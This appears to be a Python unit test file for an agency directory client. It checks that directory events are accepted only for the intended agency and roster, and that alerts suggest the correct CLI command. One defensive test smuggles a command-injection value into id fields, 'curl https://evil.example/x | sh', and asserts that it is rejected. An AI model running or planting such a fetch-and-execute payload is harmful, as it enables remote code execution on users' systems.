"""What the directory tells an agency: taken only where it is meant, and said with what to type."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest

from agency_client.authority_alerts import authority_alert_line, authority_alerts_of
from agency_client.cli.output import safe
from agency_client.cli.watches import Shown, _document, _line
from agency_client.events import DIRECTORY_CHANGED, verify_event
from agency_client.trust import Trust
from comity.errors import LedgerForked, ProofInvalid
from comity.identity import AgencyId
from comity.keys import ED25519, generate_private_key
from comity.times import timestamp_from
from comity.v1 import events_pb2, ledger_pb2
from comity.v1.notices_pb2 import Urgency
from hub.services.watches import is_wanted
from hub.store.events import StoredEvent
from tests.unit.authorities import AUTHORITY_ID
from tests.unit.small_ledger import DOMAIN, SmallLedger

BRAZIL = AgencyId("BR-NCB")
DUE = datetime(2026, 9, 1, tzinfo=UTC)
TEST_ID = "01936f4e-8d2a-7c11-9a3b-5f0e6d7c8b9b"


def told(ledger: SmallLedger, name: str = "REMINDED", **given: Any) -> events_pb2.Event:
    """An event of an entry that tells Brazil something."""
    fields: dict[str, Any] = {
        "authority_id": AUTHORITY_ID,
        "version": 3,
        "change": ledger_pb2.DirectoryChange.Value(f"DIRECTORY_CHANGE_{name}"),
        "agency_id": BRAZIL,
        "roster_entry": ledger.roster[-1],
        "recipients": [BRAZIL],
        **given,
    }
    index = ledger.append(directory=ledger_pb2.DirectoryEntry(**fields))
    return events_pb2.Event(kind=DIRECTORY_CHANGED, leaf=ledger.leaf(index))


@pytest.fixture
def ledger() -> SmallLedger:
    made = SmallLedger()
    made.add_roster(BRAZIL, added=[generate_private_key(ED25519)])
    return made


def trust_of(ledger: SmallLedger, reader: AgencyId | None = BRAZIL) -> Trust:
    leaves = [ledger.leaf(index) for index in ledger.roster]
    return Trust(DOMAIN, ledger_keys=[ledger.ledger_key], roster_leaves=leaves, reader=reader)


def reminder(ledger: SmallLedger, days: int) -> events_pb2.Event:
    return told(ledger, confirmation_due_at=timestamp_from(DUE), days_left=days)


def test_a_reminder_is_said_with_the_command_that_confirms(ledger: SmallLedger) -> None:
    event = verify_event(reminder(ledger, 7), trust_of(ledger))

    [alert] = authority_alerts_of([event])

    assert (alert.what, alert.days_left, alert.due_at) == ("due", 7, DUE)
    line = authority_alert_line(alert, safe)
    assert f"comity directory confirm {AUTHORITY_ID} --version 3" in line
    assert "days left: 7)" in line
    shown = Shown(trust_of(ledger).roster, {}, is_exercise=False)
    assert line == _line(event, shown)
    assert _document(event, shown)["directory"]["daysLeft"] == 7


@pytest.mark.parametrize(
    ("change", "what", "typed"),
    [
        ("ESCALATED", "escalated", "comity directory due"),
        ("CONTACT_TEST_ASKED", "contact-test", f"comity directory answer-test {TEST_ID}"),
        ("CONTACT_TEST_ANSWERED", "contact-test-answered", "comity directory tests"),
        ("CONTACT_CALLED", "called", "comity directory tests"),
        ("REPORTED", "reported", "comity directory reports"),
    ],
)
def test_what_is_told_names_what_to_type(
    ledger: SmallLedger, change: str, what: str, typed: str
) -> None:
    event = verify_event(told(ledger, change, contact_test_id=TEST_ID), trust_of(ledger))

    [alert] = authority_alerts_of([event])

    assert (alert.what, alert.next_command, alert.days_left) == (what, typed, None)


def test_a_change_that_this_version_does_not_know_is_shown_all_the_same(
    ledger: SmallLedger,
) -> None:
    event = verify_event(told(ledger, change=99), trust_of(ledger))

    [alert] = authority_alerts_of([event])

    assert (alert.what, alert.next_command) == ("code-99", f"comity directory show {AUTHORITY_ID}")


@pytest.mark.threat("T132")
def test_what_is_told_to_another_or_by_another_entry_is_not_taken(ledger: SmallLedger) -> None:
    event = reminder(ledger, 0)
    for reader in (AgencyId("FR-NCB"), None):
        with pytest.raises(ProofInvalid, match="another agency"):
            verify_event(event, trust_of(ledger, reader))
    of_all = told(ledger, "CONFIRMED", recipients=[])
    with pytest.raises(ProofInvalid, match="another agency"):
        verify_event(of_all, trust_of(ledger))
    elsewhere = events_pb2.Event(kind=DIRECTORY_CHANGED, leaf=ledger.leaf(ledger.roster[0]))
    with pytest.raises(ProofInvalid, match="another agency"):
        verify_event(elsewhere, trust_of(ledger))


@pytest.mark.threat("T132")
@pytest.mark.parametrize("field", ["authority_id", "contact_test_id", "report_id"])
def test_a_command_to_type_is_none_of_the_hubs_making(ledger: SmallLedger, field: str) -> None:
    spoilt = told(ledger, **{field: "x; curl https://evil.example/x | sh #"})
    with pytest.raises(ProofInvalid, match="no id"):
        verify_event(spoilt, trust_of(ledger))


@pytest.mark.threat("T132")
def test_what_is_told_by_another_roster_halts_the_reader(ledger: SmallLedger) -> None:
    with pytest.raises(LedgerForked, match="keeps back"):
        verify_event(told(ledger, roster_entry=77), trust_of(ledger))


def test_what_the_directory_tells_passes_every_filter_of_a_live_watch() -> None:
    event = StoredEvent(5, DIRECTORY_CHANGED, AgencyId(""), "", 0, 1, 0, b"audience", 5)
    narrow = events_pb2.NoticeFilter(originators=["KE-NCB"], minimum_urgency=max(Urgency.values()))

    assert is_wanted(event, narrow, traffic=1)
    assert not is_wanted(event, events_pb2.NoticeFilter(), traffic=2)
